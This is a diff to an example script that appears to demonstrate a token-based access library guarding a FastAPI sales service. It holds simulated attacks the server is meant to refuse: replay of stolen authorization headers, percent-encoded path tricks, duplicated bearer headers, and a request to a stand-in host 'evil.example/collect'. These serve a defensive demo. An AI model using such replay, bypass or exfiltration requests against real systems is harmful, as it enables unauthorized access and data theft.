@@ -2,8 +2,8 @@
 
     python examples/fastapi_service.py
 
-Needs fastapi, uvicorn and httpx. Each endpoint declares which access it needs; the client makes a token for each request, for this
-server alone and for a minute. Nothing that came in is handed on, and no endpoint can be forgotten.
+Needs fastapi, uvicorn and httpx. Each endpoint declares which access it needs; the client makes a token for each request,
+for this server alone and for a minute. No endpoint can be forgotten.
 """
 
 import socket
@@ -35,7 +35,7 @@ def health() -> str:
 
 @app.get("/market/{region}")
 def market(region: str, grant: Annotated[Grant, Depends(require(table="market.{region}", operation="select"))]) -> str:
-    return f"{AMOUNTS[region]} in {region}, for {grant.issued.subject}, asked by {grant.actor.name} ({grant.actor.basis})"
+    return f"{AMOUNTS.get(region, 0)} in {region}, for {grant.issued.subject}: {grant.actor.name} ({grant.actor.basis})"
 
 
 @app.post("/orders")
@@ -54,9 +54,11 @@ def serving(application, port):
     server = uvicorn.Server(uvicorn.Config(application, log_level="critical"))
     thread = threading.Thread(target=server.run, args=([port],))
     thread.start()
-    yield
-    server.should_exit = True
-    thread.join()
+    try:
+        yield
+    finally:
+        server.should_exit = True
+        thread.join()
 
 
 def show(who, what, answer):
@@ -70,13 +72,15 @@ protect(app, verifier, origin=origin, realm="sales", public={"/health"})
 
 key = HolderKey.generate()
 issuer = Issuer(keyring.for_audience("sales-api"))
+orders = {"order.place": {"cents": {"max": 500}}}
 root = issuer.mint(
-    subject="user:jane", agent="orchestrator", task="q3", tables=["market.*"], operations=["select"],
-    tools={"order.place": {"cents": {"max": 500}}},
-)  # fmt: skip
-bound = issuer.mint(subject="user:jane", agent="clerk", task="q3", key=key.public, tools={"order.place": {"cents": {"max": 500}}})
+    subject="user:jane", agent="orchestrator", task="q3", tables=["market.*"], operations=["select"], tools=orders
+)
+bound = issuer.mint(subject="user:jane", agent="clerk", task="q3", key=key.public, tools=orders)
 
-with serving(app, port), httpx.Client(base_url=origin, auth=auth({origin: "sales-api"}), trust_env=False) as client:
+agents = httpx.Client(base_url=origin, auth=auth({origin: "sales-api"}), trust_env=False)
+strangers = httpx.Client(base_url=origin, trust_env=False)
+with serving(app, port), agents as client, strangers as bare:
     print("Agents at work")
     with current.use(root):
         show("orchestrator", "GET /market/us", client.get("/market/us"))
@@ -93,16 +97,16 @@ with serving(app, port), httpx.Client(base_url=origin, auth=auth({origin: "sales
         request = client.build_request("POST", "/orders", json={"cents": 7})
         show("clerk", "POST /orders, 7 cents", client.send(request))
     stolen = {name: request.headers[name] for name in ("authorization", "captoken-proof")}
-    show("mallory", "the same request, again", httpx.post(origin + "/orders", json={"cents": 7}, headers=stolen, trust_env=False))
-    show("mallory", "POST /orders, 500 cents", httpx.post(origin + "/orders", json={"cents": 500}, headers=stolen, trust_env=False))
+    show("mallory", "the same request, again", bare.post("/orders", json={"cents": 7}, headers=stolen))
+    show("mallory", "POST /orders, 500 cents", bare.post("/orders", json={"cents": 500}, headers=stolen))
 
     print("\nWhat others try")
     sent = {"Authorization": f"Bearer {root.present(audience='sales-api')}"}
-    show("nobody", "GET /health", httpx.get(origin + "/health", trust_env=False))
-    show("nobody", "GET /market/eu", httpx.get(origin + "/market/eu", trust_env=False))
-    show("nobody", "GET /%68ealth", httpx.get(origin + "/%68ealth", trust_env=False))
-    show("a model", "GET /market/eu%2ehr", httpx.get(origin + "/market/eu%2ehr", headers=sent, trust_env=False))
-    show("two at once", "GET /market/eu", httpx.get(origin + "/market/eu", headers=[*sent.items()] * 2, trust_env=False))
+    show("nobody", "GET /health", bare.get("/health"))
+    show("nobody", "GET /market/eu", bare.get("/market/eu"))
+    show("nobody", "GET /%68ealth", bare.get("/%68ealth"))
+    show("a model", "GET /market/eu%2ehr", bare.get("/market/eu%2ehr", headers=sent))
+    show("two at once", "GET /market/eu", bare.get("/market/eu", headers=[*sent.items()] * 2))
     with current.use(root):
         try:
             client.get("https://evil.example/collect")
